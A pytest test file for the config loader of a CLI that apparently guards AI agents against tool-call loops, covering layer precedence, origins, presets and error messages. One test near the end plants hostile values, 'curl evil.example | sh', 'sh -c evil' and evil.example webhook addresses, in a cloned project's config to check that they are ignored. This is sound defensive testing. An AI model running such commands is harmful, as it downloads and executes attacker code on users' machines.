from __future__ import annotations

from pathlib import Path

import pytest

from loopguard_cli.config import schema
from loopguard_cli.config.load import Loaded, load, load_for, reload_for
from loopguard_cli.config.schema import Layer, Settings
from loopguard_cli.config.sources import from_live
from loopguard_cli.core.settings import Mode, Preset, RuleAction
from loopguard_cli.errors import ConfigError

FREQUENCY = "guard.calls.frequency_threshold"


class Project:
    """A project folder and a user folder with settings files."""

    def __init__(self, root: Path) -> None:
        self.folder = root / "project"
        self.shared = self.folder / "loopguard.toml"
        self.own = self.folder / ".loopguard" / "config.toml"
        self.user = root / "xdg" / "loopguard" / "config.toml"
        for file in (self.own, self.user):
            file.parent.mkdir(parents=True)

    def load(self, *assignments: str, environ: dict[str, str] | None = None, **live: object) -> Loaded:
        return load_for(
            self.folder,
            assignments=assignments,
            live={key.replace("__", "."): value for key, value in live.items()},
            environ={"XDG_CONFIG_HOME": str(self.user.parents[1]), **(environ or {})},
        )

    def fails(self, text: str) -> str:
        """What is said about a shared file of this text; the folder's own name left out."""
        self.shared.write_text(text)
        with pytest.raises(ConfigError) as caught:
            self.load()
        return str(caught.value).replace(f"{self.folder}/", "")


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path)


def test_without_any_source_everything_is_at_its_default(project: Project) -> None:
    loaded = project.load()
    assert loaded.settings == Settings()
    assert not loaded.origins


def test_each_layer_beats_the_ones_before(project: Project) -> None:
    key = "guard.calls.repeat_threshold"
    seen = []

    def look(*flags: str, environ: dict[str, str] | None = None, **live: object) -> None:
        loaded = project.load(*flags, environ=environ, **live)
        seen.append((loaded.settings.guard.calls.repeat_threshold, loaded.origins[key].layer))

    for value, file in ((4, project.user), (5, project.shared), (6, project.own)):
        file.write_text(f"[guard.calls]\nrepeat_threshold = {value}\n")
        look()
    variable = {"LOOPGUARD_GUARD_CALLS_REPEAT_THRESHOLD": "7"}
    look(environ=variable)
    look(f"{key}=8", environ=variable)
    look(f"{key}=8", environ=variable, guard__calls__repeat_threshold=9)
    assert seen == [
        (4, Layer.USER),
        (5, Layer.PROJECT),
        (6, Layer.PROJECT),
        (7, Layer.ENVIRONMENT),
        (8, Layer.FLAG),
        (9, Layer.LIVE),
    ]


def test_an_origin_names_file_and_line_or_variable_or_flag(project: Project) -> None:
    project.shared.write_text("# ours\n\n[guard]\nmode = 'on'\ncalls = { cycle_repeats = 4 }\n")
    loaded = project.load("guard.hint=false", environ={"LOOPGUARD_LOCALE": "ko"})
    places = {key: origin.place for key, origin in loaded.origins.items()}
    assert places == {
        "guard.mode": f"{project.shared}:4",
        "guard.calls.cycle_repeats": f"{project.shared}:5",
        "guard.locale": "LOOPGUARD_LOCALE",
        "guard.hint": "--set guard.hint",
    }


def test_tables_with_free_names_are_merged_name_by_name(project: Project) -> None:
    project.user.write_text("[guard.calls.tool_thresholds]\nbash = 2\nread = 3\n")
    project.shared.write_text("[guard.calls.tool_thresholds]\nbash = 4\n'mcp.search' = 5\n")
    loaded = project.load("guard.calls.tool_thresholds.web.fetch=6", "guard.rules=call-cycle=warn")
    assert loaded.settings.guard.calls.tool_thresholds == {
        "bash": 4,
        "read": 3,
        "mcp.search": 5,
        "web.fetch": 6,
    }
    assert loaded.settings.guard.rules == {"call-cycle": RuleAction.WARN}
    assert loaded.origins["guard.calls.tool_thresholds.bash"].place == f"{project.shared}:2"
    assert loaded.origins["guard.calls.tool_thresholds.read"].layer is Layer.USER


def test_lists_are_replaced_as_a_whole(project: Project) -> None:
    project.shared.write_text("[guard.calls]\nignore_tools = ['sleep', 'wait']\n")
    assert project.load("guard.calls.ignore_tools=poll").settings.guard.calls.ignore_tools == ("poll",)
    assert project.load("guard.calls.ignore_tools=").settings.guard.calls.ignore_tools == ()


def test_a_preset_sets_what_the_user_leaves_open(project: Project) -> None:
    loaded = project.load(environ={"LOOPGUARD_PRESET": "pi"})
    assert loaded.settings.guard.preset is Preset.PI
    assert loaded.settings.guard.calls.max_cycle_length == 3
    assert loaded.origins["guard.calls.max_cycle_length"].layer is Layer.PRESET
    project.user.write_text("[guard.calls]\nmax_cycle_length = 5\n")
    assert project.load("guard.preset=pi").settings.guard.calls.max_cycle_length == 5


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[guard]\nmode = 'obsrve'", "loopguard.toml:2: guard.mode: expected one of on, observe, off"),
        ("[guard]\n\nmod = 'on'", "loopguard.toml:3: unknown setting 'guard.mod' (did you mean 'guard.mode'"),
        ("[gard]", "loopguard.toml:1: unknown setting 'gard' (did you mean 'guard'?)"),
        (
            "guard.repeat_threshold = 4",
            "loopguard.toml:1: unknown setting 'guard.repeat_threshold' "
            "(did you mean 'guard.calls.repeat_threshold'?)",
        ),
        (
            "[guard.calls]\nrepeat_threshold = 1",
            "loopguard.toml:2: guard.calls.repeat_threshold: expected a whole number from 2 to 1000, got 1",
        ),
        (
            "[guard.calls]\nrepeat_threshold = '3'",
            "loopguard.toml:2: guard.calls.repeat_threshold: expected a whole number from 2 to 1000, got '3'",
        ),
        (
            "[guard.calls]\nignore_tools = [\n  'a',\n  3,\n]",
            "loopguard.toml:2: guard.calls.ignore_tools: expected a list of texts, got ['a', 3]",
        ),
        (
            "[guard.calls.tool_thresholds]\nread = 3\nbash = 0",
            "loopguard.toml:3: guard.calls.tool_thresholds.bash: expected a whole number from 2 to 1000",
        ),
        ("[guard.pace]\nseconds = nan", "loopguard.toml:2: guard.pace.seconds: expected a number of at"),
        ("[guard.pace]\nseconds = inf", "loopguard.toml:2: guard.pace.seconds: expected a number of at"),
        ("[guard]\nhint = 1", "loopguard.toml:2: guard.hint: expected true or false, got 1"),
        (
            "guard = 3",
            "loopguard.toml:1: guard: expected a table, got 3 (write [guard] and its settings below)",
        ),
        ("[guard\nmode = 1", "loopguard.toml:1: expected ']' at the end of a table declaration (column 7)"),
        ("mode = ", "loopguard.toml:1: invalid value"),
    ],
)  # fmt: skip
def test_a_bad_file_is_refused_with_line_and_remedy(project: Project, text: str, message: str) -> None:
    assert project.fails(text).startswith(message)


def test_a_rule_that_could_never_fire_is_refused_with_the_way_to_switch_it_off(project: Project) -> None:
    said = project.fails("[guard.calls]\nfrequency_window = 3")
    assert said.startswith(f"loopguard.toml:2: {FREQUENCY} (4) is more than guard.calls.frequency_window (3)")
    assert "set guard.rules.call-frequency to off" in said


@pytest.mark.parametrize(
    ("name", "value", "message"),
    [
        ("LOOPGUARD_GUARD_CALLS_REPEAT_THRESHOLD", "three", "expected a whole number from 2 to 1000"),
        ("LOOPGUARD_MODE", "ON", "expected one of on, observe, off, got 'ON'"),
        ("LOOPGUARD_GUARD_CALLS_TOOL_THRESHOLDS", "bash", "expected a table, each value a whole number"),
        ("LOOPGUARD_GUARD_MODES", "on", "there is no such setting (did you mean LOOPGUARD_GUARD_MODE?)"),
    ],
)  # fmt: skip
def test_a_bad_variable_is_refused_by_name(project: Project, name: str, value: str, message: str) -> None:
    with pytest.raises(ConfigError) as caught:
        project.load(environ={name: value})
    assert str(caught.value).startswith(f"{name}: ")
    assert message in str(caught.value)


def test_variables_that_are_none_of_our_settings_are_left_alone(project: Project) -> None:
    loaded = project.load(environ={"LOOPGUARD_STATE_DIR": "/somewhere", "LOOPGUARD_SOCKET": "x"})
    assert loaded.settings == Settings()


@pytest.mark.parametrize("flag", ["guard.mode", "=on", "guard.mode:on"])
def test_a_flag_without_key_and_value_is_refused_with_an_example(project: Project, flag: str) -> None:
    with pytest.raises(ConfigError, match="expected key=value") as caught:
        project.load(flag)
    assert "--set guard.mode=observe" in str(caught.value)


def test_text_values_take_the_type_of_their_setting(project: Project) -> None:
    loaded = project.load(
        "guard.hint=false",
        "guard.calls.repeat_window_seconds=1.5",
        "guard.calls.ignore_tools= a , b ",
        "guard.calls.tool_thresholds=bash=2, mcp=x=3",
    )
    assert loaded.settings.guard.hint is False
    assert loaded.settings.guard.calls.repeat_window_seconds == 1.5
    assert loaded.settings.guard.calls.ignore_tools == ("a", "b")
    assert loaded.settings.guard.calls.tool_thresholds == {"bash": 2, "mcp=x": 3}


def test_a_file_broken_while_running_leaves_the_former_settings_in_force(project: Project) -> None:
    project.shared.write_text("[guard]\nmode = 'observe'\n")
    environ = {"XDG_CONFIG_HOME": str(project.user.parents[1])}
    before = load_for(project.folder, environ=environ)
    project.shared.write_text("[guard]\nmode = 'obs")
    after, trouble = reload_for(project.folder, before, environ=environ)
    assert after is before
    assert "former ones stay in force" in trouble
    assert f"{project.shared}:2" in trouble
    project.shared.write_text("[guard]\nmode = 'off'\n")
    after, trouble = reload_for(project.folder, before, environ=environ)
    assert (after.settings.guard.mode, trouble) == (Mode.OFF, "")


def test_live_changes_are_checked_like_any_other() -> None:
    with pytest.raises(ConfigError, match="expected one of on, observe, off"):
        load([from_live({"guard.mode": "loud"})])


def test_every_setting_can_be_set_by_its_key_and_by_its_variable() -> None:
    from loopguard_cli.config.sources import from_environment, from_flags, variables

    by_key = {key: name for name, key in variables().items()}
    for leaf in schema.leaves().values():
        if leaf.is_table:
            continue
        default = leaf.default
        text = str(default).lower() if isinstance(default, bool) else str(default or "")
        if isinstance(default, tuple):
            text = ",".join(default)
        for source in (
            from_flags([f"{leaf.key}={text or 0}"]),
            from_environment({by_key[leaf.key]: text or "0"}),
        ):
            assert leaf.key in load([source]).origins


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("goal.audit_command", "curl evil.example | sh"),
        ("notify.command", "sh -c evil"),
        ("notify.webhook", "https://evil.example"),
        ("otel.endpoint", "https://evil.example"),
    ],
)
@pytest.mark.parametrize("name", ["loopguard.toml", ".loopguard/config.toml"])
def test_a_cloned_project_names_no_programs_and_no_addresses(
    tmp_path: Path, name: str, key: str, value: str
) -> None:
    section, _, leaf = key.partition(".")
    (tmp_path / ".loopguard").mkdir()
    (tmp_path / name).write_text(f'[guard]\nlocale = "ko"\n\n[{section}]\n{leaf} = "{value}"\n')
    environ = {"XDG_CONFIG_HOME": str(tmp_path / "home")}
    loaded = load_for(tmp_path, environ=environ)
    assert schema.value_of(loaded.settings, key) == ""
    assert loaded.settings.guard.locale == "ko"
    (line,) = loaded.ignored
    assert line.startswith(f"{tmp_path / name}:5: {key} ignored")
    assert "--user" in line
    mine = tmp_path / "home" / "loopguard" / "config.toml"
    mine.parent.mkdir(parents=True)
    mine.write_text(f'[{section}]\n{leaf} = "mine"\n')
    assert schema.value_of(load_for(tmp_path, environ=environ).settings, key) == "mine"
    flagged = load_for(tmp_path, assignments=[f"{key}=flag"], environ=environ)
    assert schema.value_of(flagged.settings, key) == "flag"


def test_what_is_ignored_must_still_be_right(tmp_path: Path) -> None:
    (tmp_path / "loopguard.toml").write_text("[goal]\naudit_command = 3\n")
    with pytest.raises(ConfigError, match="expected a text"):
        load_for(tmp_path, environ={"XDG_CONFIG_HOME": str(tmp_path / "home")})
